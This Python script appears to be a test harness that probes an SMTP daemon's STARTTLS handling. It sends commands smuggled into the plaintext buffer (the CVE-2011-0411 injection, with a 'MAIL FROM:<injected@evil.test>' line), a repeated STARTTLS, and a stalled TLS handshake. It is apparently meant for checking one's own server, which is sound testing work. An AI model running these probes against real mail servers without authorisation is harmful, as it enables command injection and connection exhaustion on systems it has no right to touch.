#!/usr/bin/python3
"""Raw STARTTLS dialogues for the hostile cases, over a verifying TLS context that trusts CA alone.

Usage: starttls_inject.py --host NAME --cafile CA [--twice | --stall]
default: STARTTLS with "RSET" and "MAIL FROM:<injected@evil.test>" in the same packet (CVE-2011-0411), then the
         handshake, then NOOP and MAIL under TLS; prints the replies.
--twice: STARTTLS, handshake, EHLO, STARTTLS again; prints the second STARTTLS reply.
--stall: STARTTLS, then half a TLS record and silence; prints how long until the daemon closed the connection.
"""

import argparse
import json
import socket
import ssl
import time


def read_reply(stream):
    lines = []
    while True:
        line = stream.readline()
        if not line:
            return " | ".join(lines) if lines else None
        lines.append(line.decode("latin-1").rstrip("\r\n"))
        if len(lines[-1]) < 4 or lines[-1][3] == " ":
            return lines[-1] if len(lines) == 1 else lines[-1]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", required=True)
    parser.add_argument("--cafile", required=True)
    parser.add_argument("--twice", action="store_true")
    parser.add_argument("--stall", action="store_true")
    args = parser.parse_args()
    result = {}
    raw = socket.create_connection((args.host, 25), timeout=30)
    plain = raw.makefile("rb")
    result["greeting"] = read_reply(plain)
    raw.sendall(b"EHLO client.test\r\n")
    result["ehlo"] = read_reply(plain)
    if args.stall:
        raw.sendall(b"STARTTLS\r\n")
        result["ready"] = read_reply(plain)
        raw.sendall(b"\x16\x03")
        started = time.monotonic()
        raw.settimeout(30)
        try:
            while raw.recv(4096):
                pass
        except OSError:
            pass
        result["closed_after_seconds"] = time.monotonic() - started
        print(json.dumps(result))
        return

    if args.twice:
        raw.sendall(b"STARTTLS\r\n")
    else:
        raw.sendall(b"STARTTLS\r\nRSET\r\nMAIL FROM:<injected@evil.test>\r\n")
    result["ready"] = read_reply(plain)
    context = ssl.create_default_context(cafile=args.cafile)
    tls = context.wrap_socket(raw, server_hostname=args.host)
    secure = tls.makefile("rb")
    if args.twice:
        tls.sendall(b"EHLO client.test\r\n")
        result["ehlo_under_tls"] = read_reply(secure)
        tls.sendall(b"STARTTLS\r\n")
        result["second_starttls"] = read_reply(secure)
    else:
        tls.sendall(b"NOOP\r\n")
        result["first_under_tls"] = read_reply(secure)
        tls.sendall(b"MAIL FROM:<alice@client.test>\r\n")
        result["mail_under_tls"] = read_reply(secure)
    tls.sendall(b"QUIT\r\n")
    result["quit"] = read_reply(secure)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
